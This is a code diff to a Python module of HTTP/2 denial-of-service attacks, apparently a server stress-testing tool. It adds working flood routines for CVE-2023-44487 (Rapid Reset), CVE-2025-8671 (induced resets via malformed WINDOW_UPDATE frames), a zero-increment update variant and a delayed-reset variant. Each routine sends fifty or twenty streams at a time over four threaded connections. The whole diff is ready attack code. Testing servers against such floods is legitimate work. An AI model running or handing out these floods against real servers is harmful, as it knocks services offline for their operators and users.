@@ -1,4 +1,5 @@
 """Attacks over HTTP/2, frame by frame, with prior knowledge on a cleartext listener. For the table in attacks.py."""
+import itertools
 import struct
 import threading
 import time
@@ -62,32 +63,48 @@ class Connection:
             self.socket.close()
 
 
-def rapid_reset(attack):
-    """CVE-2023-44487: requests that are taken back at once."""
+def requests_with(*makers):
+    """Fifty requests at a time on four connections, each with what one of the makers puts behind its head."""
+    def attack_with(attack):
+        def each():
+            c = Connection(attack)
+            make = makers[next(turn) % len(makers)]
+
+            def piece():
+                streams = [c.next() for _ in range(50)]
+                return b"".join(headers(stream) + make(stream) for stream in streams)
+            c.flood(piece)
+        turn = itertools.count()
+        attack.threads(4, each)
+    return attack_with
+
+
+def update(stream, increment):
+    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", increment))
+
+
+def reset(stream):
+    return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+
+
+# CVE-2023-44487: requests that are taken back at once.
+rapid_reset = requests_with(reset)
+# CVE-2025-8671: errors of its own in streams, so that the server resets them and goes on working.
+induced_resets = requests_with(lambda stream: update(stream, 0x7fffffff))
+# The same with what ends the connection at once.
+empty_updates = requests_with(lambda stream: update(stream, 0))
+
+
+def later_reset(attack):
+    """Taken back as soon as the server behind has been asked."""
     def each():
         c = Connection(attack)
 
         def piece():
-            out = b""
-            for _ in range(50):
-                stream = c.next()
-                out += headers(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
-            return out
-        c.flood(piece)
-    attack.threads(4, each)
-
-
-def induced_resets(attack):
-    """CVE-2025-8671: errors of its own in streams, so that the server resets them and goes on working."""
-    def each():
-        c = Connection(attack)
-
-        def piece():
-            out = b""
-            for _ in range(50):
-                stream = c.next()
-                out += headers(stream) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
-            return out
+            streams = [c.next() for _ in range(20)]
+            c.socket.sendall(b"".join(headers(stream) for stream in streams))
+            time.sleep(0.003)
+            return b"".join(reset(stream) for stream in streams)
         c.flood(piece)
     attack.threads(4, each)
 
